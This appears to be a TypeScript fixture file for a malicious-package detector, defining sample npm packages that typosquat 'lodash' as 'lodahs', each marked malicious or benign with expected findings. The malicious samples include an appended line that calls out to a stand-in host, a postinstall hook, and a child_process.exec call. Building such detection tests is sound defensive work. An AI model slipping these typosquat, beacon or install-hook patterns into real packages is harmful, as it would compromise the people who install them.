import type { Sample, Samples } from '../contract.ts';
import { at, manifest, quiet, releaseContext, releaseFacts } from '../samples-kit.ts';

/** A module of some length that only reckons. */
const CODE = Array.from(
  { length: 24 },
  (_, index) =>
    `exports.lines${index} = (text) => text.split(/\\n/).slice(${index}).map((line) => line.trim() + ${index});`,
).join('\n');
const SENDS = "\nrequire('https').get('https://lines.weir.example/' + process.version);\n";

function packed(name: string, code: string, fields: Readonly<Record<string, unknown>> = {}): Sample['files'] {
  return { 'package.json': manifest({ name, main: 'index.js', ...fields }), 'index.js': code };
}

const ORIGINAL = { name: 'lodash', version: '4.17.21', files: packed('lodash', CODE) };
const context = releaseContext(releaseFacts(), { name: 'lodahs' });

export const samples: Samples = {
  malicious: [
    {
      name: 'a copy that sends',
      files: packed('lodahs', CODE + SENDS),
      context,
      original: ORIGINAL,
      expected: [at('ability', 'high', 'index.js', 25), at('destination', 'high', 'index.js', 25)],
    },
    {
      name: 'a copy with an install script',
      files: {
        ...packed('lodahs', CODE, { scripts: { postinstall: 'node setup.js' } }),
        'setup.js': 'exports.done = true;\n',
      },
      context,
      original: ORIGINAL,
      expected: [at('hook', 'high', 'package.json', 6)],
    },
    {
      name: 'a copy in another file, that starts a program',
      files: {
        ...packed('lodahs', CODE),
        'index.js': "module.exports = require('./lines.js');\nrequire('child_process').exec('lines');\n",
        'lines.js': CODE,
      },
      context,
      original: ORIGINAL,
      expected: [at('ability', 'high', 'index.js', 2)],
    },
  ],
  benign: [
    { ...quiet('a copy that does no more', packed('lodahs', CODE), context), original: ORIGINAL },
    {
      ...quiet('code of its own under a near name', packed('lodahs', `exports.own = 1;${SENDS}`), context),
      original: ORIGINAL,
    },
    quiet('a near name whose original is not at hand', packed('lodahs', CODE), context),
  ],
};
